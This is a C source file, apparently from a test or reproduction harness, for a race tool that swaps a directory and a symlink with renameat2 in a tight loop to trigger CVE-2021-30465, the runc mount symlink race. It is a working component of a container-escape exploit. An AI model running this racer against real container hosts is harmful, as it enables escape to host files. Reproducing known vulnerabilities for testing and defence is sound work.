/* cve-swap: swaps a directory and a symlink with renameat2(RENAME_EXCHANGE) in a tight loop (CVE-2021-30465 racer). */
/*
 * usage: cve-swap DIR NAME LINK_TARGET SECONDS
 * Makes DIR/NAME a directory and DIR/.NAME.swap a symlink to LINK_TARGET, then exchanges the two
 * names as fast as it can until SECONDS pass or it is killed, and leaves NAME a directory. It
 * prints the number of exchanges. Runs on the host side, as the exploit's second container did on
 * a shared volume: the runtime sees NAME flip between a directory and a symlink while it mounts.
 */
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static volatile sig_atomic_t stop;

static void on_signal(int sig)
{
        (void)sig;
        stop = 1;
}

int main(int argc, char **argv)
{
        if (argc != 5) {
                fprintf(stderr, "usage: cve-swap DIR NAME LINK_TARGET SECONDS\n");
                return 2;
        }
        int dir = open(argv[1], O_PATH | O_DIRECTORY | O_CLOEXEC);
        if (dir < 0) {
                perror(argv[1]);
                return 1;
        }
        char link[4096];
        snprintf(link, sizeof(link), ".%s.swap", argv[2]);
        if ((mkdirat(dir, argv[2], 0755) < 0 && errno != EEXIST) || symlinkat(argv[3], dir, link) < 0) {
                perror("set up");
                return 1;
        }
        signal(SIGTERM, on_signal);
        signal(SIGINT, on_signal);
        struct timespec start, t;
        clock_gettime(CLOCK_MONOTONIC, &start);
        double seconds = atof(argv[4]);
        unsigned long swaps = 0, failures = 0;
        while (!stop) {
                /* The runtime may briefly hold a name (EBUSY) or replace one: keep racing, give up only when
                 * nothing works any more. */
                if (renameat2(dir, argv[2], dir, link, RENAME_EXCHANGE) < 0) {
                        if (++failures > 100000) {
                                perror("renameat2");
                                return 1;
                        }
                } else {
                        swaps++;
                }
                if (((swaps + failures) & 1023) != 0)
                        continue;
                clock_gettime(CLOCK_MONOTONIC, &t);
                if ((double)(t.tv_sec - start.tv_sec) + (double)(t.tv_nsec - start.tv_nsec) / 1e9 > seconds)
                        break;
        }
        /* Leave NAME the directory, the symlink under the other name. */
        struct stat st;
        if (fstatat(dir, argv[2], &st, AT_SYMLINK_NOFOLLOW) == 0 && S_ISLNK(st.st_mode))
                renameat2(dir, argv[2], dir, link, RENAME_EXCHANGE);
        printf("swaps=%lu failures=%lu\n", swaps, failures);
        return 0;
}
